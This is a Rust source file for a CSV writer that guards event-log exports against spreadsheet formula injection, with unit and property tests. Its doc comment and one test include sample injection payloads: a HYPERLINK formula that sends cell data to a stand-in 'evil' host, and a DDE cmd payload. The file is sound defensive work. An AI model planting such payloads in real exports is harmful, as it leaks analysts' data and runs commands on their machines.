//! A small RFC 4180 CSV writer.
//!
//! CSV output is meant to be opened in spreadsheets, and event-log text is attacker
//! controlled. A command line such as `=HYPERLINK("http://evil/?"&A1,"click")` or
//! `+cmd|' /C calc'!A0` becomes a live formula when the analyst opens the file, leaking data
//! or running commands on the analyst's machine. So by default, cells that start with a
//! character spreadsheets treat as the start of a formula get a single quote `'` in front,
//! as OWASP recommends ("CSV Injection"). The trigger characters are `=`, `+`, `-`, `@`,
//! TAB and CR.
//!
//! This changes data: a negative number such as `-5` is written as `'-5`, and so is a
//! command line that starts with `-`. The CLI flag `--csv-raw` turns neutralisation off
//! (construct the writer with `neutralise_formulas = false`) for when the CSV goes to other
//! programs rather than a spreadsheet.
//!
//! Apart from that prefix the text is lossless: no terminal escaping happens here (CSV is a
//! file format, not a display), and quoting follows RFC 4180, so a CSV reader gets back
//! exactly the original field, control characters included.

use std::io::{self, Write};

/// Writes RFC 4180 records: fields separated by `,`, records ended by CRLF, a field quoted
/// with `"` when it contains `,`, `"`, CR or LF, and a `"` inside a quoted field doubled.
///
/// Each record is assembled in a reused buffer and handed to the inner writer with one
/// `write_all`, so wrapping an unbuffered writer is not slow, though a buffered one is still
/// better.
pub struct CsvWriter<W: Write> {
    inner: W,
    neutralise_formulas: bool,
    line: Vec<u8>,
}

impl<W: Write> CsvWriter<W> {
    /// `neutralise_formulas` should be `true` unless the user asked for `--csv-raw`.
    pub fn new(inner: W, neutralise_formulas: bool) -> Self {
        CsvWriter {
            inner,
            neutralise_formulas,
            line: Vec::with_capacity(1024),
        }
    }

    /// Writes one record.
    ///
    /// A record with a single empty field is written as `""` so it does not read back as a
    /// blank line; an empty slice writes a blank line.
    pub fn write_record(&mut self, fields: &[&str]) -> io::Result<()> {
        self.line.clear();
        if let [only] = fields {
            if only.is_empty() {
                self.line.extend_from_slice(b"\"\"");
            }
        }
        for (i, field) in fields.iter().enumerate() {
            if i > 0 {
                self.line.push(b',');
            }
            push_field(&mut self.line, field, self.neutralise_formulas);
        }
        self.line.extend_from_slice(b"\r\n");
        self.inner.write_all(&self.line)
    }

    /// Flushes the inner writer.
    pub fn flush(&mut self) -> io::Result<()> {
        self.inner.flush()
    }

    /// The inner writer, e.g. to write a non-CSV preamble.
    pub fn get_mut(&mut self) -> &mut W {
        &mut self.inner
    }

    /// Gives back the inner writer (not flushed).
    pub fn into_inner(self) -> W {
        self.inner
    }
}

/// True when a spreadsheet could read `field` as a formula (OWASP's trigger list).
pub fn starts_like_formula(field: &str) -> bool {
    matches!(
        field.as_bytes().first(),
        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r')
    )
}

/// `field` with a leading `'` when a spreadsheet would read it as a formula, for writers that
/// quote cells themselves (the polars tables).
pub fn neutralise(field: &str) -> std::borrow::Cow<'_, str> {
    if starts_like_formula(field) {
        std::borrow::Cow::Owned(format!("'{field}"))
    } else {
        std::borrow::Cow::Borrowed(field)
    }
}

fn needs_quotes(field: &str) -> bool {
    field
        .bytes()
        .any(|b| matches!(b, b',' | b'"' | b'\r' | b'\n'))
}

fn push_field(line: &mut Vec<u8>, field: &str, neutralise_formulas: bool) {
    let guard = neutralise_formulas && starts_like_formula(field);
    if !needs_quotes(field) {
        if guard {
            line.push(b'\'');
        }
        line.extend_from_slice(field.as_bytes());
        return;
    }
    line.push(b'"');
    if guard {
        line.push(b'\'');
    }
    for part in field.split_inclusive('"') {
        line.extend_from_slice(part.as_bytes());
        if part.ends_with('"') {
            line.push(b'"');
        }
    }
    line.push(b'"');
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn render(records: &[&[&str]], neutralise: bool) -> String {
        let mut w = CsvWriter::new(Vec::new(), neutralise);
        for r in records {
            w.write_record(r).unwrap();
        }
        String::from_utf8(w.into_inner()).unwrap()
    }

    /// A strict RFC 4180 reader, only for checking the writer.
    fn parse(text: &str) -> Vec<Vec<String>> {
        let mut records = Vec::new();
        let mut record = Vec::new();
        let mut field = String::new();
        let mut chars = text.chars().peekable();
        let mut quoted = false;
        while let Some(c) = chars.next() {
            match (quoted, c) {
                (true, '"') if chars.peek() == Some(&'"') => {
                    chars.next();
                    field.push('"');
                }
                (true, '"') => quoted = false,
                (true, c) => field.push(c),
                (false, '"') => {
                    assert!(field.is_empty(), "quote inside unquoted field");
                    quoted = true;
                }
                (false, ',') => record.push(std::mem::take(&mut field)),
                (false, '\r') => {
                    assert_eq!(chars.next(), Some('\n'), "bare CR");
                    record.push(std::mem::take(&mut field));
                    records.push(std::mem::take(&mut record));
                }
                (false, '\n') => panic!("bare LF outside quotes"),
                (false, c) => field.push(c),
            }
        }
        assert!(
            !quoted && field.is_empty() && record.is_empty(),
            "unterminated"
        );
        records
    }

    #[test]
    fn formula_injection_cells_are_neutralised() {
        let cells = [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "+cmd|' /C calc'!A0",
            "@SUM(1)",
            "-2+3",
            "\t=1",
            "\r=1",
        ];
        let text = render(&[&cells], true);
        let back = parse(&text);
        let expected: Vec<String> = cells.iter().map(|c| format!("'{c}")).collect();
        assert_eq!(back, vec![expected]);
        assert!(text.starts_with("\"'=HYPERLINK(\"\"http"));
        assert!(text.contains(",'+cmd|' /C calc'!A0,'@SUM(1),'-2+3,'\t=1,\"'\r=1\"\r\n"));
    }

    #[test]
    fn negative_number_is_also_prefixed() {
        assert_eq!(render(&[&["-5", "5", "a=b"]], true), "'-5,5,a=b\r\n");
    }

    #[test]
    fn raw_mode_leaves_cells_unchanged() {
        let cells = ["=1+1", "+x", "-5", "@a", "\t=1", "\r=1", "plain"];
        let text = render(&[&cells], false);
        assert_eq!(text, "=1+1,+x,-5,@a,\t=1,\"\r=1\",plain\r\n");
        assert_eq!(parse(&text), vec![cells.map(String::from).to_vec()]);
    }

    #[test]
    fn quoting_round_trip() {
        let rows: [&[&str]; 4] = [
            &["a,b", "say \"hi\"", "line1\nline2", "cr\rlf\r\n", "\"", ""],
            &["", ""],
            &[""],
            &["\x1b[31m", "C:\\Windows\\System32\\cmd.exe /c \"echo, hi\""],
        ];
        let text = render(&rows, true);
        let back = parse(&text);
        let expected: Vec<Vec<String>> = rows
            .iter()
            .map(|r| r.iter().map(|s| s.to_string()).collect())
            .collect();
        assert_eq!(back, expected);
        assert!(text.contains("\"say \"\"hi\"\"\""));
        // Control characters are kept as they are: CSV is lossless.
        assert!(text.contains("\x1b[31m"));
    }

    #[test]
    fn record_layout() {
        assert_eq!(
            render(&[&["a", "b"], &[""], &[]], true),
            "a,b\r\n\"\"\r\n\r\n"
        );
    }

    proptest! {
        #[test]
        fn any_fields_round_trip_in_raw_mode(fields in proptest::collection::vec(any::<String>(), 1..6)) {
            let refs: Vec<&str> = fields.iter().map(String::as_str).collect();
            let back = parse(&render(&[&refs], false));
            prop_assert_eq!(back, vec![fields.clone()]);
        }

        #[test]
        fn any_fields_round_trip_with_guard(fields in proptest::collection::vec(any::<String>(), 1..6)) {
            let refs: Vec<&str> = fields.iter().map(String::as_str).collect();
            let back = parse(&render(&[&refs], true));
            let expected: Vec<String> = fields
                .iter()
                .map(|f| if starts_like_formula(f) { format!("'{f}") } else { f.clone() })
                .collect();
            prop_assert_eq!(back, vec![expected]);
        }
    }
}
